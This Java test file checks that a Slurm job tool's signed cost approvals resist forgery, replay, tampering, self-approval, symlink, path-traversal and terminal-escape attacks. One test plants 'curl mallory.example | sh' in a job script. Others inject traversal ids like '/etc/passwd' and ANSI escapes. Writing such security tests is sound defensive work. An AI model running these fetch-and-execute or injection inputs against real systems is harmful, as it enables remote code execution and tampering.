package dev.nexa.slurm.command.approvals;

import static org.assertj.core.api.Assertions.assertThat;

import dev.nexa.slurm.base.files.DurableFiles;
import dev.nexa.slurm.base.json.Json;
import dev.nexa.slurm.base.json.JsonObject;
import dev.nexa.slurm.command.Site;
import dev.nexa.slurm.command.Terminal;
import dev.nexa.slurm.command.Terminal.Screen;
import dev.nexa.slurm.records.approvals.Approval;
import dev.nexa.slurm.records.approvals.ApprovalFile;
import dev.nexa.slurm.records.approvals.ApprovedRun;
import dev.nexa.slurm.records.approvals.Keys;
import dev.nexa.slurm.records.approvals.UnixUser;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Each way to get a run past the people who pay: none gets through. */
class ApprovalAttackTest {
  private static final int RACERS = 20;

  @TempDir Path folder;
  private Site site;
  private Terminal ada;

  @BeforeEach
  void goToWork() {
    site = new Site(folder);
    ada = site.workspace("ada");
  }

  @Test
  void honest() {
    ApprovalFile approval = site.approve(ada);

    Screen screen = ada.type("submit", "run.yaml");

    assertThat(screen.exit()).as(screen.err()).isZero();
    assertThat(screen.out()).contains("approved by boss@site (" + approval.approval().id());
    assertThat(ada.argv("sbatch")).contains("--comment=nexa:v1:" + approval.approval().id());
    assertThat(run().resolve("approval")).hasContent(approval.text());
    JsonObject estimate = Json.parseObject(DurableFiles.read(run().resolve("estimate.json")));
    assertThat(estimate.object("quote").text("approval_id")).isEqualTo(approval.approval().id());
    assertThat(DurableFiles.read(run().resolve("journal.jsonl")))
        .contains("\"approval_id\":\"" + approval.approval().id());
    String use =
        DurableFiles.read(site.approvals.resolve("used/" + approval.approval().id() + "/1"));
    assertThat(Json.parseObject(use).text("run")).isEqualTo(run().toString());
  }

  @Test
  void withoutAnyItSaysWhatToSendToWhom() {
    Screen screen = ada.type("submit", "run.yaml");

    Path estimates = ada.workspace.resolve("estimates");
    Path file = estimates.resolve(Site.names(estimates).get(0));
    String shortName = file.getFileName().toString().substring(0, 8);
    assertThat(screen.err())
        .contains("→ boss@site types: nexa-slurm approve " + estimates.resolve(shortName))
        .endsWith(
            "\nnote: This limit is set in the workspace, not by the admin: you can change it there.\n");
    assertThat(screen.err())
        .containsSubsequence(
            "the limit is approval_over in ",
            "nothing was submitted",
            "ask for less",
            "or ask boss@site to approve it, then type this again",
            "boss@site types: ",
            "submit looks for approvals in " + site.approvals);
    refused(screen, "without an approval");
    Screen approve =
        ada.type(
            "approve", "--yes", file.toString(), "--key", site.boss.toString(), "--note", "go");
    assertThat(approve.exit()).as(approve.err()).isZero();
    assertThat(approve.out()).contains("one run of run.yaml: can cost", "signed by  boss@site");
    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
  }

  /** A terminal of 80 columns holds it, and the approver can type what it says. */
  @Test
  void aRefusalSaysThePathOnceInFewWords() {
    site.approve(ada);
    ada.file("run.yaml", Site.run("echo other", "6h"));

    Screen screen = ada.type("submit", "run.yaml");

    assertThat(screen.err()).containsOnlyOnce("estimates/");
    assertThat(screen.err().replace(folder.toString(), "/srv"))
        .doesNotContainPattern("[0-9a-f]{20}");
    for (String line : screen.err().replace(folder.toString(), "/srv").split("\n", -1)) {
      // The error's code makes a line longer.
      boolean longer = line.contains("[needs-approval]");
      assertThat(line.length()).as(line).isLessThanOrEqualTo(longer ? 120 : 84);
    }
    String typed = screen.err().split(" types: nexa-slurm approve ", -1)[1].split("\n", -1)[0];
    assertThat(ada.type("approve", "--yes", typed, "--key", "" + site.boss).exit()).isZero();
    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
  }

  @Test
  void ofManyApprovalsThatDoNotCoverItTheMostAlikeAreTold() {
    for (int hours = 6; hours < 11; hours++) {
      ada.file("run.yaml", Site.run("echo " + hours, hours + "h"));
      site.approve(ada);
    }
    ada.file("run.yaml", Site.run("echo 5", "6h"));

    Screen screen = ada.type("submit", "run.yaml");

    refused(screen, "→ nexa-slurm approvals list  # shows 2 more that do not cover it");
    assertThat(screen.err().indexOf("does not cover")).isLessThan(screen.err().indexOf("ask boss"));
    assertThat(screen.err().split(" does not cover it:\n", -1)[1]).doesNotContain("time limit");
  }

  @Test
  void whereNobodyCanApproveNobodyIsSentAnything() {
    site.allow("garbage line\n");
    Screen broken = ada.type("submit", "run.yaml");
    site.allow("# nobody\n");
    Screen nobody = ada.type("submit", "run.yaml");

    refused(broken, "allowed_signers:1: no key on this line", "nobody can approve until");
    refused(nobody, "→ nobody may approve it now");
    assertThat(broken.err() + nobody.err()).doesNotContain(" types: nexa-slurm");
  }

  @Test
  void forged() {
    Approval statement = site.statement(ada);
    site.put(statement.fileName(), Site.signed(site.mallory, "nexa-slurm", statement));

    refused(ada.type("submit", "run.yaml"), "the key SHA256:", "is not in ");
  }

  @Test
  void forgedWithABorrowedSignature() {
    Approval mine = site.statement(ada);
    String other = Site.signed(site.boss, "nexa-slurm", Site.uses(mine, 2));
    String signature = other.substring(other.indexOf("-----BEGIN"));
    site.put(mine.fileName(), mine.statement() + signature);

    refused(ada.type("submit", "run.yaml"), "its signature is not of this text");
  }

  @Test
  void replayed() {
    site.approve(ada);

    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
    refusedAgain(ada.type("submit", "run.yaml"), "it is used up: 1 of 1 uses, the last data_");
  }

  @Test
  void replayedFromACopyInAnotherWorkspace() throws IOException {
    ApprovalFile file = site.approve(ada);
    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
    Terminal other = site.workspace("other");
    Path copy = Site.write(folder.resolve("copy"), file.text());
    Files.delete(site.approvals.resolve(file.approval().fileName()));

    Screen screen = other.type("submit", "run.yaml", "--approval", copy.toString());

    assertThat(screen.exit()).isEqualTo(3);
    assertThat(screen.err()).contains("it is used up: 1 of 1 uses");
    assertThat(Site.submitted(other)).isFalse();
  }

  @Test
  void expired() {
    Instant then = Instant.parse("2025-01-01T00:00:00Z");
    site.approve(ada, same -> Site.at(same, then, then.plus(7, ChronoUnit.DAYS)));

    refused(ada.type("submit", "run.yaml"), "it expired at 2025-01-08T00:00:00Z; now it is ");
  }

  @Test
  void notYetValidNamesTheClocks() {
    Instant soon = Instant.now().truncatedTo(ChronoUnit.SECONDS).plus(Duration.ofHours(1));
    site.approve(ada, same -> Site.at(same, soon, soon.plus(7, ChronoUnit.DAYS)));

    refused(
        ada.type("submit", "run.yaml"), "your clock says ", ", the approval was made at " + soon);
  }

  @Test
  void lastingLongerThanThePolicyAllows() {
    site.approve(
        ada, same -> Site.at(same, same.created(), same.created().plus(60, ChronoUnit.DAYS)));

    refused(ada.type("submit", "run.yaml"), "it lasts 1440 hours; the policy lets", "720");
  }

  @Test
  void revokedApproval() {
    String id = site.approve(ada).approval().id();
    assertThat(ada.type("approvals", "revoke", id, "--reason", "wrong data").exit()).isZero();

    refused(ada.type("submit", "run.yaml"), "it was revoked by " + Site.ME + " (wrong data)");
    assertThat(ada.type("approvals", "list").out()).contains(id + "  revoked");
  }

  @Test
  void revokedKey() {
    Path revoked = Site.write(folder.resolve("revoked"), Keys.line(site.boss) + " lost laptop\n");
    site.policy("  revoked_keys: " + revoked + "\n");
    ada = site.workspace("ada");
    site.approve(ada);

    refused(ada.type("submit", "run.yaml"), "the key SHA256:", " is revoked");
  }

  @Test
  void editedStatement() {
    ApprovalFile file = site.approve(ada);
    String name = file.approval().fileName();

    for (String edit :
        List.of(
            file.text().replace("\"uses\": 1", "\"uses\": 100"),
            file.text().replace("\"over_budget\": false", "\"over_budget\": true"),
            file.text().replace("\"max_cost\": \"", "\"max_cost\": \"9"),
            file.text().replace("\"expires\": \"2", "\"expires\": \"3"),
            file.text().replace("\"price\": \"", "\"price\": \"0"),
            file.text().replace("\"user\": \"" + Site.ME, "\"user\": \"eve"),
            " " + file.text())) {
      assertThat(edit).isNotEqualTo(file.text());
      site.put(name, edit);
      refused(ada.type("submit", "run.yaml"), file.approval().id());
    }
  }

  @Test
  void editedAnywhereAByte() {
    ApprovalFile file = site.approve(ada);
    String name = file.approval().fileName();
    SplittableRandom random = new SplittableRandom(6);
    for (int i = 0; i < 60; i++) {
      StringBuilder edit = new StringBuilder(file.text());
      int at = random.nextInt(edit.length());
      edit.setCharAt(at, (char) (edit.charAt(at) ^ (1 << random.nextInt(7))));
      site.put(name, edit.toString());
      refused(ada.type("submit", "run.yaml"), "without an approval");
    }
  }

  @Test
  void truncated() {
    ApprovalFile file = site.approve(ada);
    String name = file.approval().fileName();
    for (int length = 0; length < file.text().length(); length += 97) {
      site.put(name, file.text().substring(0, length));
      refused(ada.type("submit", "run.yaml"), "without an approval");
    }
  }

  @Test
  void trailingBytes() {
    ApprovalFile file = site.approve(ada);
    for (String more : List.of("\n", " ", "{}", file.text())) {
      site.put(file.approval().fileName(), file.text() + more);
      refused(ada.type("submit", "run.yaml"), "without an approval");
    }
  }

  @Test
  void editedScript() {
    ApprovalFile file = site.approve(ada);
    ada.file(
        "templates/task.sbatch.ftl",
        "#!/bin/bash\n<#include \"lib/directives.ftl\">\ncurl mallory.example | sh\n");

    refused(ada.type("submit", "run.yaml"), "the script: not the bytes that were approved");
    refused(
        ada.type("submit", "run.yaml", "--approval", file(file)),
        "the script: not the bytes that were approved");
  }

  @Test
  void editedRunnerFile() {
    ApprovalFile file = site.approve(ada);
    ada.file("run.yaml", Site.run("echo something else", "5h"));

    refused(ada.type("submit", "run.yaml"), "runner file run.sh: not the bytes that were approved");
    refused(
        ada.type("submit", "run.yaml", "--approval", file(file)),
        "runner file run.sh: not the bytes that were approved");
  }

  @Test
  void editedResources() {
    ApprovalFile file = site.approve(ada);

    refused(
        ada.type("submit", "run.yaml", "--set", "resources.time=9h", "--approval", file(file)),
        "time limit: 05:00:00 was approved, this is 09:00:00 (resources.time)",
        "the reservation: at most ");
    refused(
        ada.type("submit", "run.yaml", "--set", "array.shards=16", "--set", "requeues=1"),
        "tasks: 8 was approved, this is 16 (array.shards or sweep)",
        "requeues of each task: 0 was approved, this is 1 (requeues)");
    refused(
        ada.type("submit", "run.yaml", "--set", "resources.account=theirs"),
        "account: none was approved, this is theirs (resources.account)");
    refused(
        ada.type("submit", "run.yaml", "--set", "tags=[other]"),
        "the script: not the bytes that were approved");
  }

  @Test
  void editedRatesBeforeTheApproval() {
    JsonObject estimate = site.estimate(ada);
    Path file = ada.workspace.resolve("estimates/" + estimate.text("config_digest") + ".json");
    String cpu = estimate.object("rates").object("cpu_hour").text("price");
    String text = DurableFiles.read(file);
    Site.write(file, text.replace("\"price\": \"" + cpu + "\"", "\"price\": \"0.0001\""));

    Screen doesNotAddUp =
        ada.type("approve", "--yes", file.toString(), "--key", site.boss.toString());
    assertThat(doesNotAddUp.exit()).isEqualTo(2);
    assertThat(doesNotAddUp.err()).contains("its rates and limits come to", "it was edited");
    assertThat(site.approvals).doesNotExist();
  }

  @Test
  void editedRatesAreNotThoseOfThePriceBookThatTheyName() {
    JsonObject estimate = site.estimate(ada);
    Path file = ada.workspace.resolve("estimates/" + estimate.text("config_digest") + ".json");
    String text = DurableFiles.read(file);
    // The price of a GPU that this run has none of changes no sum.
    String h100 = estimate.object("rates").object("gpu_hour").object("h100").text("price");
    Site.write(file, text.replace("\"price\": \"" + h100 + "\"", "\"price\": \"0.01\""));

    Screen screen = ada.type("approve", "--yes", file.toString(), "--key", site.boss.toString());

    assertThat(screen.exit()).isEqualTo(2);
    assertThat(screen.err())
        .contains("its rates are not those of the price book", "gpu_hour.h100.price: " + h100);
  }

  @Test
  void aRunWhoseRatesWereEditedDoesNotRunAgain() throws IOException {
    ApprovalFile file = site.approve(ada);
    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
    Path estimate = run().resolve("estimate.json");
    String text = DurableFiles.read(estimate);
    estimate.toFile().setWritable(true);
    String cpu = ((ApprovedRun) file.approval().scope()).rates().object("cpu_hour").text("price");
    Files.writeString(estimate, text.replace("\"price\": \"" + cpu + "\"", "\"price\": \"1\""));
    ended("FAILED");

    Screen screen = ada.type("rerun", "latest", "--failed");

    assertThat(screen.exit()).as(screen.err()).isEqualTo(2);
    assertThat(screen.err())
        .contains(estimate + " was changed after the submit: its SHA-256 is ")
        .contains(
            "nexa-slurm submit "
                + ada.workspace.resolve("run.yaml")
                + "  # submits the config anew");
  }

  @Test
  void aNewerPriceBookAloneChangesNothing() throws IOException {
    JsonObject before = site.estimate(ada);
    site.approve(ada);
    ada.file(
        "configs/prices/default.yaml",
        "currency: USD\nas_of: 2027-01-01\ngpu_hour: {h100: {price: 99, source: list}}\n"
            + "cpu_hour: {price: 99, source: list}\n");

    Screen screen = ada.type("submit", "run.yaml", "--json");

    assertThat(screen.exit()).as(screen.err()).isZero();
    JsonObject kept = Json.parseObject(DurableFiles.read(run().resolve("estimate.json")));
    assertThat(kept.object("rates").toString()).isEqualTo(before.object("rates").toString());
    assertThat(kept.object("reservation").text("total"))
        .isEqualTo(before.object("reservation").text("total"));
    refusedAgain(ada.type("submit", "run.yaml"), "this run can cost ");
  }

  @Test
  void selfSigned() {
    Approval mine = Site.by(site.statement(ada), "boss@site");
    site.allow(
        "boss@site "
            + Keys.line(site.boss)
            + "\n"
            + Site.ME
            + " "
            + Keys.line(site.mallory)
            + "\n");
    site.put(mine.fileName(), Site.signed(site.mallory, "nexa-slurm", mine));
    refused(ada.type("submit", "run.yaml"), " is of " + Site.ME + ", not of boss@site");

    Approval own = Site.by(site.statement(ada), Site.ME);
    site.put(own.fileName(), Site.signed(site.mallory, "nexa-slurm", own));
    refused(ada.type("submit", "run.yaml"), "submitters cannot approve their own runs");
  }

  @Test
  void selfApprovedByASecondPrincipalOfTheKey() {
    site.allow(
        "boss@site "
            + Keys.line(site.boss)
            + "\n"
            + Site.ME
            + "@laptop valid-before=\"20200101\" "
            + Keys.line(site.boss)
            + "\n");
    site.approve(ada);

    refused(
        ada.type("submit", "run.yaml"), "with a key of '" + Site.ME + "@laptop', which may be you");
  }

  @Test
  void selfApprovedByAPatternThatAnybodyMatches() {
    site.allow("*@site " + Keys.line(site.boss) + "\n");
    site.approve(ada);

    refused(ada.type("submit", "run.yaml"), "with a key of '*@site', which may be you");
  }

  @Test
  void selfApprovalIsThePolicysToAllow() {
    site.policy("  self_approval: true\n").allow(Site.ME + " " + Keys.line(site.boss) + "\n");
    ada = site.workspace("ada");
    site.approve(ada, same -> Site.by(same, Site.ME));

    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
  }

  @Test
  void anotherUsersApproval() {
    Approval old = site.statement(ada);
    ApprovedRun run = (ApprovedRun) old.scope();
    Approval eves =
        new Approval(
            old.id(),
            old.approver(),
            old.created(),
            old.expires(),
            1,
            old.maxCost(),
            false,
            Optional.empty(),
            new ApprovedRun(
                run.config(),
                run.configDigest(),
                run.whatRuns(),
                run.limits(),
                Optional.of(new UnixUser("eve", Optional.of(4711L))),
                run.rates(),
                run.reservation()));
    site.put(eves.fileName(), Site.signed(site.boss, "nexa-slurm", eves));

    refused(ada.type("submit", "run.yaml"), "the submitter: eve (uid 4711) was approved, this is ");
  }

  @Test
  void wrongNamespace() {
    Approval statement = site.statement(ada);
    site.put(statement.fileName(), Site.signed(site.boss, "git", statement));

    refused(
        ada.type("submit", "run.yaml"), "its signature was made for 'git', not for 'nexa-slurm'");
  }

  @Test
  void signerOutsideTheirTime() {
    site.allow("boss@site valid-before=\"20250101Z\" " + Keys.line(site.boss) + "\n");
    site.approve(ada);

    refused(ada.type("submit", "run.yaml"), "is not valid at ");
  }

  @Test
  void signerWhoWasNotYetAllowedAtTheDateOfTheStatement() {
    Instant then = daysAgo(3);
    site.approve(ada, same -> Site.at(same, then, then.plus(7, ChronoUnit.DAYS)));
    site.allow("boss@site valid-after=\"" + day(daysAgo(1)) + "\" " + Keys.line(site.boss) + "\n");

    refused(ada.type("submit", "run.yaml"), "is not valid at " + then);
  }

  @Test
  void signerWhoseKeyHasExpiredAndWhoDatesTheStatementEarlier() {
    Instant then = daysAgo(3);
    site.approve(ada, same -> Site.at(same, then, then.plus(7, ChronoUnit.DAYS)));
    site.allow("boss@site valid-before=\"" + day(daysAgo(1)) + "\" " + Keys.line(site.boss) + "\n");

    refused(ada.type("submit", "run.yaml"), "is not valid at ");
  }

  private static Instant daysAgo(int days) {
    return Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(Duration.ofDays(days));
  }

  /** The beginning of a day in UTC, as ssh-keygen writes it. */
  private static String day(Instant time) {
    return time.toString().substring(0, 10).replace("-", "") + "Z";
  }

  @Test
  void symlinkedApproval() throws IOException {
    ApprovalFile file = site.approve(ada);
    Path real = site.approvals.resolve(file.approval().fileName());
    Path elsewhere = folder.resolve("elsewhere");
    Files.move(real, elsewhere);
    Files.createSymbolicLink(real, elsewhere);

    refused(ada.type("submit", "run.yaml"), "is a symbolic link, which is not followed");
  }

  @Test
  void symlinkedUses() throws IOException {
    ApprovalFile file = site.approve(ada);
    Path used = Files.createDirectories(site.approvals.resolve("used"));
    Path elsewhere = Files.createDirectory(folder.resolve("elsewhere"));
    Files.createSymbolicLink(used.resolve(file.approval().id()), elsewhere);
    refused(ada.type("submit", "run.yaml"), "is a symbolic link: uses are not counted through one");

    Files.delete(used.resolve(file.approval().id()));
    Files.delete(used);
    Files.createSymbolicLink(used, elsewhere);
    refused(ada.type("submit", "run.yaml"), "is a symbolic link: uses are not counted through one");
    assertThat(elsewhere).isEmptyDirectory();
  }

  @Test
  @Timeout(value = 60, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
  void aPipeAmongTheUsesStopsNobodyElse() throws IOException {
    ApprovalFile stopped = site.approve(ada);
    Path used = Files.createDirectories(site.approvals.resolve("used"));
    Path uses = Files.createDirectory(used.resolve(stopped.approval().id()));
    Keys.run(uses, "mkfifo", "1");

    refused(
        ada.type("submit", "run.yaml"),
        "its uses can't be counted: Cannot read " + uses + "/1: it is no file");
    Screen list = ada.type("approvals", "list");
    assertThat(list.exit()).as(list.err()).isZero();
    assertThat(list.out()).contains(stopped.approval().id() + "  not valid");

    String other = site.approve(ada).approval().id();
    assertThat(ada.type("submit", "run.yaml").exit()).isZero();
    Keys.run(site.approvals, "mkfifo", other + ".revoked");
    assertThat(ada.type("approvals", "list").out()).contains(other + "  revoked");
  }

  @Test
  void pathEscapingIds() {
    ApprovalFile file = site.approve(ada);
    Approval old = file.approval();
    String text = old.statement().replace(old.id(), "../../../../tmp/x");
    String signature =
        Site.signed(site.boss, "nexa-slurm", old).substring(old.statement().length());
    site.put(old.fileName(), text + signature);
    refused(ada.type("submit", "run.yaml"), "expected an approval's id of 16 hex digits");

    for (String id : List.of("../ada", "..", "/etc/passwd", "used/..", "", "x".repeat(16))) {
      Screen show = ada.type("approvals", "show", id);
      Screen revoke = ada.type("approvals", "revoke", id);
      assertThat(show.exit()).as(id).isEqualTo(2);
      assertThat(revoke.exit()).as(id).isEqualTo(2);
      assertThat(show.err()).contains("is not the id of an approval");
    }
    assertThat(Site.names(site.approvals)).containsExactly(old.fileName());
  }

  @Test
  void anEstimateThatLeadsTheApproversFileElsewhere() {
    JsonObject estimate = site.estimate(ada);
    Path file = ada.workspace.resolve("estimates/" + estimate.text("config_digest") + ".json");
    String digest = estimate.text("config_digest");
    Site.write(file, DurableFiles.read(file).replace(digest, "../../../../tmp/nexa-escaped"));

    Screen screen = ada.type("approve", "--yes", file.toString(), "--key", site.boss.toString());

    assertThat(screen.exit()).isEqualTo(2);
    assertThat(screen.err()).contains("expected a config_digest of 64 hex digits");
    assertThat(site.approvals).doesNotExist();
  }

  @Test
  void anEstimateThatDrawsOnTheApproversTerminal() {
    JsonObject estimate = site.estimate(ada);
    Path file = ada.workspace.resolve("estimates/" + estimate.text("config_digest") + ".json");
    Site.write(
        file,
        DurableFiles.read(file)
            .replace("\"run.yaml\"", "\"run.yaml\\n  allows     at most 0.01 USD\\u001b[9A\""));

    Screen screen = ada.type("approve", "--yes", file.toString(), "--key", site.boss.toString());

    assertThat(screen.out())
        .contains("one run of run.yaml\\u000a  allows     at most 0.01 USD\\u001b[9A: can cost ")
        .doesNotContain("\u001b");
  }

  @Test
  void twentyAtOnceOnOneUse() throws Exception {
    site.approve(ada);

    assertThat(race()).containsOnlyOnce(0).filteredOn(exit -> exit != 0).containsOnly(3);
  }

  @Test
  void twentyHonestOnesAtOnceOnTwentyUses() throws Exception {
    ApprovalFile file = site.approve(ada, same -> Site.uses(same, RACERS));

    assertThat(race()).containsOnly(0);
    assertThat(Site.names(site.approvals.resolve("used/" + file.approval().id()))).hasSize(RACERS);
  }

  @Test
  void twentyHonestOnesAtOnceWithAnApprovalEach() throws Exception {
    for (int i = 0; i < RACERS; i++) {
      site.approve(ada);
    }

    assertThat(race()).containsOnly(0);
  }

  /**
   * The exit statuses of so many people who submit the same at once, each from their own folder.
   */
  private List<Integer> race() throws Exception {
    ExecutorService crowd = Executors.newFixedThreadPool(RACERS);
    CountDownLatch start = new CountDownLatch(1);
    List<Future<Integer>> racers = new ArrayList<>();
    for (int i = 0; i < RACERS; i++) {
      Terminal terminal = site.workspace("racer" + i);
      racers.add(
          crowd.submit(
              () -> {
                start.await();
                int exit = terminal.type("submit", "run.yaml").exit();
                assertThat(Site.submitted(terminal)).isEqualTo(exit == 0);
                return exit;
              }));
    }
    start.countDown();
    List<Integer> exits = new ArrayList<>();
    for (Future<Integer> racer : racers) {
      exits.add(racer.get());
    }
    crowd.shutdown();
    return exits;
  }

  private String file(ApprovalFile file) {
    return site.approvals.resolve(file.approval().fileName()).toString();
  }

  /** Nothing was submitted, no use was taken, and it says why. */
  private void refused(Screen screen, String... why) {
    assertThat(screen.exit()).as(screen.toString()).isEqualTo(3);
    assertThat(screen.err()).contains(why).contains("nothing was submitted");
    assertThat(Site.submitted(ada)).isFalse();
    assertThat(ada.workspace.resolve("runs")).doesNotExist();
  }

  /** The same after a run that went through. */
  private static void refusedAgain(Screen screen, String why) {
    assertThat(screen.exit()).as(screen.toString()).isEqualTo(3);
    assertThat(screen.err()).contains(why);
  }

  /** Every task of the run ended so, as accounting has it. */
  private void ended(String state) {
    StringBuilder rows = new StringBuilder();
    String name = "'\"$name\"'";
    for (int task = 0; task < 8; task++) {
      rows.append(Terminal.accountingRow(4711, task, state, name)).append('\n');
    }
    ada.program(
        "sacct",
        "while read -r a; do case $a in --job-name=*) name=${a#*=};; esac; done <"
            + folder.resolve("ada/bin/sbatch.argv")
            + "\n"
            + rows);
    ada.type("reconcile");
  }

  private Path run() {
    try {
      return ada.workspace
          .resolve("runs")
          .resolve(Files.readSymbolicLink(ada.workspace.resolve("runs/latest")));
    } catch (IOException failed) {
      throw new java.io.UncheckedIOException(failed);
    }
  }
}
